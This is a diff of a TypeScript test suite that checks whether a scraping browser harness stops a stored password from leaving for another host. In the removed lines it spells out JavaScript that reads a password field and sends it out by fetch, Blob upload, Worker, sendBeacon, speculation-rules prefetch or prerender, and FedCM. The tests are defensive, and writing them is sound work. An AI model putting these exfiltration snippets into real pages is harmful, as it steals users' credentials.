@@ -9,6 +9,7 @@ import type { Secret, SecretReader } from "../../../functions/secrets/secret.ts"
 import { withSecrets } from "../../../functions/secrets/with-secrets.ts";
 import { type Site, sendHtml, startSite } from "../../site/site.ts";
 import { type Engine, startEngine, type Told } from "../scraping/harness.ts";
+import { channels } from "./channels.ts";
 
 const PASSWORD = `correct "horse" & battery/1%`;
 const KEY = "k3y with spaces+é";
@@ -333,7 +334,10 @@ describe("what the browser is about to send to another host", () => {
   const ending: Step = { type: "wait", selector: "#never", timeout_ms: 20_000 };
   const done: Step = { type: "wait", text: "done", timeout_ms: 20_000 };
   const input = '<input name="password">';
-  const onClick = (script: string) => `${input}<button onclick='${script}'>Go</button><ul><li>One</li></ul>`;
+  const onClick = (script: string) =>
+    `${input}<script>const end = () => document.body.append("done")</script><button onclick='${script}'>Go</button><ul><li>One</li></ul>`;
+  const way = (name: keyof typeof channels, path: string) =>
+    channels[name](other.url(path), `document.querySelector("input").value`);
   beforeEach(() => {
     other.setRoute("/log", (_, response) => sendHtml(response, "logged"));
     site.setRoute("/moved", (_, response) => {
@@ -352,27 +356,13 @@ describe("what the browser is about to send to another host", () => {
         `<form method=post target=_blank action="${other.url("/account")}">${input}<button>Go</button></form>`,
     ],
     ["by a redirect", () => `<form method=post action="/moved">${input}<button>Go</button></form>`],
-    [
-      "by a script in base 64",
-      () =>
-        onClick(
-          `fetch("${other.url("/log")}?q=" + btoa("x:" + document.querySelector("input").value), { mode: "no-cors" })`,
-        ),
-    ],
-    [
-      "by a script in a file",
-      () =>
-        onClick(
-          `fetch("${other.url("/account")}", { method: "POST", body: new Blob(["x".repeat(3e6), document.querySelector("input").value]) })`,
-        ),
-    ],
-    [
-      "by a worker",
-      () =>
-        onClick(
-          `new Worker(window.URL.createObjectURL(new Blob([\`fetch("${other.url("/log")}?\${encodeURIComponent(document.querySelector("input").value)}", { mode: "no-cors" })\`])))`,
-        ),
-    ],
+    ...(
+      [
+        ["a script in base 64", "/log"],
+        ["a script in a file", "/account"],
+        ["a worker", "/log"],
+      ] as const
+    ).map(([name, path]): [string, () => string] => [`by ${name}`, () => onClick(way(name, path))]),
   ])("%s is not sent, and ends the run", async (_, html) => {
     const told = await runOn(html(), ending);
     expect(told.failure).toMatchObject({ code: "secret_unavailable" });
@@ -382,42 +372,28 @@ describe("what the browser is about to send to another host", () => {
   });
 
   test("by a beacon is not sent, and the run goes on, because no page can see the response", async () => {
-    const beacon = `navigator.sendBeacon("${other.url("/account")}", document.querySelector("input").value); document.body.append("done")`;
-    const told = await runOn(onClick(beacon), done, list);
+    const told = await runOn(onClick(way("a beacon", "/account")), done, list);
     expect(told.failure).toBeUndefined();
     expect(told.rows).toHaveLength(1);
     expect(received()).toBe("");
   });
 
-  const rules = (kind: string) =>
-    `const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ ${kind}: [{ source: "list", eagerness: "immediate", urls: ["${other.url("/log")}?" + encodeURIComponent(document.querySelector("input").value)] }] }); document.head.append(rules); document.body.append("done")`;
-  const signIn = () =>
-    `const config = "${other.url("/log")}?" + encodeURIComponent(document.querySelector("input").value); Promise.resolve(navigator.credentials.get({ identity: { providers: [{ configURL: config, clientId: "1" }] } })).catch(() => {}).then(() => document.body.append("done"))`;
-  test.each<[string, () => string]>([
-    ["prefetching by speculation rules", () => rules("prefetch")],
-    ["prerendering", () => rules("prerender")],
-    ["FedCM", signIn],
-  ])("by %s is not sent", async (_, script) => {
-    const told = await runOn(
-      onClick(script().replaceAll("'", "")),
-      done,
-      { type: "wait", value: 1_000 },
-      list,
-    );
+  const unseen = ["prefetching by speculation rules", "prerendering", "FedCM"] as const;
+  test.each(unseen)("by %s is not sent", async (name) => {
+    const told = await runOn(onClick(way(name, "/log")), done, { type: "wait", value: 1_000 }, list);
     expect(received()).toBe("");
     expectNothingOf(told, PASSWORD);
   });
 
-  test.each<[string, () => string]>([
-    ["prefetching by speculation rules", () => rules("prefetch")],
-    ["prerendering", () => rules("prerender")],
-    ["FedCM", signIn],
-  ])("by %s is not sent to a host that a request without the secret has named", async (_, script) => {
-    const named = `fetch("${other.url("/log")}", { mode: "no-cors" }).then(() => { ${script()} })`;
-    const told = await runOn(onClick(named.replaceAll("'", "")), done, { type: "wait", value: 1_000 }, list);
-    expect(told.failure).toBeUndefined();
-    expect(received()).toBe("/log");
-  });
+  test.each(unseen)(
+    "by %s is not sent to a host that a request without the secret has named",
+    async (name) => {
+      const named = `fetch("${other.url("/log")}", { mode: "no-cors" }).then(() => { ${way(name, "/log")} })`;
+      const told = await runOn(onClick(named), done, { type: "wait", value: 1_000 }, list);
+      expect(told.failure).toBeUndefined();
+      expect(received()).toBe("/log");
+    },
+  );
 
   test("by the name of a host that only the browser's resolver would get, ends the run", async () => {
     secrets.set("password", { value: "hunter-2-hunter", hosts: [] });
